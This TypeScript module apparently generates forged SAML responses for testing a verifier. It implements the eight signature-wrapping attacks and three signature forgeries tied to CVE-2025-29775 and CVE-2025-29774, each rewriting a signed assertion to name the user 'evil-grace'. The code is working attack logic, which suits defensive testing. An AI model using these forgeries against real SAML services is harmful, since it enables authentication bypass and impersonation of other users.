import { createHash } from 'node:crypto';
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { ExclusiveCanonicalization } from 'xml-crypto';
import { ASSERTION_NS, PROTOCOL_NS, SIGNATURE_NS } from '../saml/saml-names.js';

/** Whom every forgery tries to be. */
export const EVIL = 'evil-grace';

type Forge = (genuine: string) => string;

const parse = (xml: string): Document => new DOMParser().parseFromString(xml, 'text/xml');
const write = (document: Document): string => new XMLSerializer().serializeToString(document);
const one = (parent: Document | Element, namespace: string, name: string): Element => parent.getElementsByTagNameNS(namespace, name)[0] as Element;
const assertionOf = (document: Document): Element => one(document, ASSERTION_NS, 'Assertion');
const own = (parent: Element, namespace: string, name: string): Element | undefined =>
  Array.from(parent.childNodes).find((node) => (node as Element).namespaceURI === namespace && (node as Element).localName === name) as Element | undefined;

/** A copy that says it is EVIL, under an ID of its own. */
function evilCopy(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  copy.setAttribute('ID', '_evil');
  one(copy, ASSERTION_NS, 'NameID').textContent = EVIL;
  return copy;
}

function without(element: Element, child: Element | undefined): Element {
  if (child) element.removeChild(child);
  return element;
}

const unsigned = (element: Element): Element => without(element, own(element, SIGNATURE_NS, 'Signature'));

/** Wraps a response that is signed as a whole. */
function aroundResponse(place: (evil: Element, genuine: Element, signature: Element) => void): Forge {
  return (xml) => {
    const document = parse(xml);
    const genuine = document.documentElement;
    const evil = unsigned(evilCopy(genuine));
    evil.setAttribute('ID', '_evil-response');
    const signature = own(genuine, SIGNATURE_NS, 'Signature')?.cloneNode(true) as Element;
    unsigned(genuine);
    document.removeChild(genuine);
    document.appendChild(evil);
    place(evil, genuine, signature);
    return write(document);
  };
}

/** Wraps the assertion inside the response. */
function aroundAssertion(place: (parts: { response: Element; evil: Element; genuine: Element; signature: Element; document: Document }) => void): Forge {
  return (xml) => {
    const document = parse(xml);
    const response = document.documentElement;
    const genuine = assertionOf(document);
    const evil = unsigned(evilCopy(genuine));
    const signature = own(genuine, SIGNATURE_NS, 'Signature') as Element;
    place({ response, evil, genuine, signature, document });
    return write(document);
  };
}

/**
 * Signature wrapping 1 to 8, as SAML Raider numbers them. Source: Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be",
 * USENIX Security 2012.
 */
export const wrappings: readonly (readonly [string, Forge])[] = [
  ['1: the signed response inside the signature of a forged one', aroundResponse((evil, genuine, signature) => {
    evil.insertBefore(signature, evil.childNodes[1] as Node);
    signature.appendChild(genuine);
  })],
  ['2: the signed response beside the signature in a forged one', aroundResponse((evil, genuine, signature) => {
    evil.insertBefore(signature, evil.childNodes[1] as Node);
    evil.insertBefore(genuine, signature);
  })],
  ['3: a forged assertion before the signed one', aroundAssertion(({ response, evil, genuine }) => void response.insertBefore(evil, genuine))],
  ['4: the signed assertion inside a forged one', aroundAssertion(({ response, evil, genuine }) => {
    response.replaceChild(evil, genuine);
    evil.appendChild(genuine);
  })],
  ['5: the signature moved into a forged assertion, the signed one behind it', aroundAssertion(({ response, evil, genuine, signature }) => {
    response.replaceChild(evil, genuine);
    evil.insertBefore(signature, evil.childNodes[1] as Node);
    response.appendChild(genuine);
  })],
  ['6: the signed assertion inside the signature of a forged one', aroundAssertion(({ response, evil, genuine, signature }) => {
    response.replaceChild(evil, genuine);
    evil.insertBefore(signature, evil.childNodes[1] as Node);
    signature.appendChild(genuine);
  })],
  ['7: a forged assertion in the extensions', aroundAssertion(({ response, evil, genuine, document }) => {
    const extensions = document.createElementNS(PROTOCOL_NS, 'samlp:Extensions');
    extensions.appendChild(evil);
    response.insertBefore(extensions, genuine);
  })],
  ['8: the signed assertion in an object of the signature of a forged one', aroundAssertion(({ response, evil, genuine, signature, document }) => {
    response.replaceChild(evil, genuine);
    evil.insertBefore(signature, evil.childNodes[1] as Node);
    const object = document.createElementNS(SIGNATURE_NS, 'ds:Object');
    signature.appendChild(object);
    object.appendChild(genuine);
  })],
];

/** The digest that a changed element would have: what an honest signer would have signed. */
function digestOf(element: Element): string {
  const bare = unsigned(element.cloneNode(true) as Element);
  const canonical = new ExclusiveCanonicalization().process(bare, {});
  return createHash('sha256').update(String(canonical)).digest('base64');
}

/** Changes the assertion, then repairs each digest from the inside out. */
function changed(xml: string, repair: (signature: Element, digest: string, document: Document) => void): string {
  const document = parse(xml);
  one(document, ASSERTION_NS, 'NameID').textContent = EVIL;
  for (const element of [assertionOf(document), document.documentElement]) {
    const signature = own(element, SIGNATURE_NS, 'Signature');
    if (signature) repair(signature, digestOf(element), document);
  }
  return write(document);
}

/** Forgeries of the signature itself. Sources: CVE-2025-29775 (a comment in DigestValue), CVE-2025-29774 (a second SignedInfo). */
export const signatureForgeries: readonly (readonly [string, Forge])[] = [
  ['a comment with another digest in DigestValue', (xml) => changed(xml, (signature, digest, document) => {
    const value = one(signature, SIGNATURE_NS, 'DigestValue');
    value.insertBefore(document.createComment(digest), value.firstChild);
  })],
  ['a second SignedInfo in front of the signed one', (xml) => changed(xml, (signature, digest) => {
    const signed = one(signature, SIGNATURE_NS, 'SignedInfo');
    const forged = signed.cloneNode(true) as Element;
    one(forged, SIGNATURE_NS, 'DigestValue').textContent = digest;
    signature.insertBefore(forged, signed);
  })],
  ['a second SignedInfo behind the signed one', (xml) => changed(xml, (signature, digest) => {
    const signed = one(signature, SIGNATURE_NS, 'SignedInfo');
    const forged = signed.cloneNode(true) as Element;
    one(forged, SIGNATURE_NS, 'DigestValue').textContent = digest;
    signature.insertBefore(forged, signed.nextSibling);
  })],
];
